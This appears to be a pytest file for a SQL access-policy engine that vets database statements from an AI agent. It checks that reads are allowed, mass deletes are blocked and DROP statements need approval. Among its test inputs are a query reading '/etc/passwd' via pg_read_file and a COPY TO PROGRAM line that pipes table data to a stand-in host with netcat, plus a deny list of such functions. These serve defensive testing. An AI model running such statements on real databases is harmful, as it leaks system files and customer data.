"""``match.postgres`` rules compiled and evaluated on classified SQL: any/every, fail closed."""

from __future__ import annotations

import pytest

from chaperone_sidecar.policy.classify.postgres import classify_sql
from chaperone_sidecar.policy.compiler import PolicyErrors, compile_policies, compile_policy
from chaperone_sidecar.policy.evaluator import evaluate
from chaperone_sidecar.policy.model import Action, Identity

WHO = Identity(service_account="agents/claude")


def policy(*rules, default="block"):
    return {"apiVersion": "chaperone.dev/v1alpha1", "kind": "AccessPolicy",
            "metadata": {"name": "db", "namespace": "agents"},
            "spec": {"defaultEffect": default, "approvers": {"users": ["alice"]}, "rules": list(rules)}}


def decide(pol, sql):
    result = compile_policies([pol])
    assert result.ok, result.errors
    out = []
    for action in classify_sql(sql, host="db", port=5432, database="shop"):
        d = evaluate(result.policies, action, WHO, "shop")
        out.append((d.effect, d.rule.rule if d.rule else None))
    return out if len(out) != 1 else out[0]


READS = {"name": "reads", "match": {"postgres": {"kinds": ["read"]}}, "allow": {}}
WRITES = {"name": "writes", "match": {"postgres": {"kinds": ["write"]}}, "allow": {}}
MASS = {"name": "mass", "match": {"postgres": {"statements": ["DELETE", "UPDATE"], "whereMissing": True}},
        "block": {"message": "no WHERE"}}
DROP = {"name": "drop", "match": {"postgres": {"statements": ["DROP", "TRUNCATE"]}}, "requireApproval": {}}
DANGER = {"name": "danger", "match": {"postgres": {"functions": ["pg_read_file", "dblink*", "PROGRAM"]}},
          "block": {}}


def test_the_policy_of_the_story():
    pol = policy(READS, WRITES, MASS, DROP, DANGER)
    assert decide(pol, "SELECT * FROM users") == ("allow", "reads")
    assert decide(pol, "DELETE FROM users WHERE id = 1") == ("allow", "writes")
    assert decide(pol, "DELETE FROM users") == ("block", "mass")
    assert decide(pol, "delete from users where 1=1") == ("block", "mass")
    assert decide(pol, "DROP TABLE users") == ("require_approval", "drop")
    assert decide(pol, "SELECT pg_catalog.pg_read_file('/etc/passwd')") == ("block", "danger")
    assert decide(pol, "COPY users TO PROGRAM 'nc evil 9'") == ("block", "danger")
    assert decide(pol, "CREATE TABLE x (a int)") == ("block", None)  # default
    assert decide(pol, "SELECT 1; DROP TABLE x") == [("allow", "reads"), ("require_approval", "drop")]


def test_a_restricting_rule_matches_a_nested_command_an_allow_rule_needs_every_one():
    pol = policy({"name": "sel", "match": {"postgres": {"statements": ["SELECT"]}}, "allow": {}},
                 {"name": "nodelete", "match": {"postgres": {"statements": ["DELETE"]}}, "block": {}})
    assert decide(pol, "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d") == (
        "block", "nodelete")
    only_allow = policy({"name": "sel", "match": {"postgres": {"statements": ["SELECT"]}}, "allow": {}})
    assert decide(only_allow, "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d") == (
        "block", None)


@pytest.mark.parametrize("sql", ["DO $$ BEGIN DELETE FROM users; END $$", "CALL purge()", "EXECUTE p"])
def test_opaque_statements_match_every_restricting_field_and_no_allow(sql):
    for field, value in (("statements", ["DELETE"]), ("kinds", ["write"]), ("tables", ["users"]),
                         ("functions", ["pg_read_file"]), ("whereMissing", True)):
        pol = policy({"name": "all", "match": {"postgres": {}}, "allow": {}},
                     {"name": "guard", "match": {"postgres": {field: value}}, "block": {}})
        assert decide(pol, sql) == ("block", "guard"), field
    assert decide(policy(READS, WRITES), sql) == ("block", None)
    assert decide(policy({"name": "do", "match": {"postgres": {"kinds": ["other"]}}, "allow": {}}), sql) == (
        "allow", "do")


def test_tables_ignore_case_and_schema_and_allow_needs_every_table():
    guard = policy({"name": "all", "match": {"postgres": {}}, "allow": {}},
                   {"name": "users", "match": {"postgres": {"tables": ["users"]}}, "block": {}})
    for sql in ('SELECT * FROM "Users"', "SELECT * FROM public.users", "SELECT * FROM USERS",
                "SELECT * FROM orders JOIN users ON true"):
        assert decide(guard, sql) == ("block", "users"), sql
    assert decide(guard, "SELECT * FROM orders") == ("allow", "all")
    allow = policy({"name": "orders", "match": {"postgres": {"tables": ["orders", "public.order_*"]}}, "allow": {}})
    assert decide(allow, "SELECT * FROM orders") == ("allow", "orders")
    assert decide(allow, "SELECT * FROM public.order_lines") == ("allow", "orders")
    assert decide(allow, "SELECT * FROM orders JOIN users ON true") == ("block", None)
    assert decide(allow, "SELECT 1") == ("block", None)  # no table: a tables condition never holds


def test_where_missing_false_matches_only_statements_with_a_condition():
    pol = policy({"name": "scoped", "match": {"postgres": {"statements": ["DELETE"], "whereMissing": False}},
                  "allow": {}})
    assert decide(pol, "DELETE FROM t WHERE id = 1") == ("allow", "scoped")
    assert decide(pol, "DELETE FROM t") == ("block", None)


def test_postgres_rules_never_match_other_connection_types():
    pol = policy({"name": "any", "match": {"postgres": {}}, "block": {}}, default="allow")
    result = compile_policies([pol])
    http = Action("http", "GET", "https", "h", 443, "/")
    assert evaluate(result.policies, http, WHO, "x").effect == "allow"


def test_unknown_commands_and_mixed_sections_are_refused_at_admission():
    with pytest.raises(PolicyErrors) as info:
        compile_policy(policy({"name": "x", "match": {"postgres": {"statements": ["DELET"]}}, "block": {}}))
    assert 'spec.rules[0].match.postgres.statements[0]: unknown SQL command "DELET"' in str(info.value)
    with pytest.raises(PolicyErrors) as info:
        compile_policy(policy({"name": "x", "match": {"postgres": {"kinds": ["wrte"]}}, "block": {}}))
    assert "spec.rules[0].match.postgres.kinds[0]" in str(info.value)
    with pytest.raises(PolicyErrors) as info:
        compile_policy(policy({"name": "x", "match": {"postgres": {}, "aws": {}}, "block": {}}))
    assert "can never hold together" in str(info.value)
    compile_policy(policy({"name": "x", "match": {"postgres": {"statements": ["drop", "CREATE*"]}}, "block": {}}))
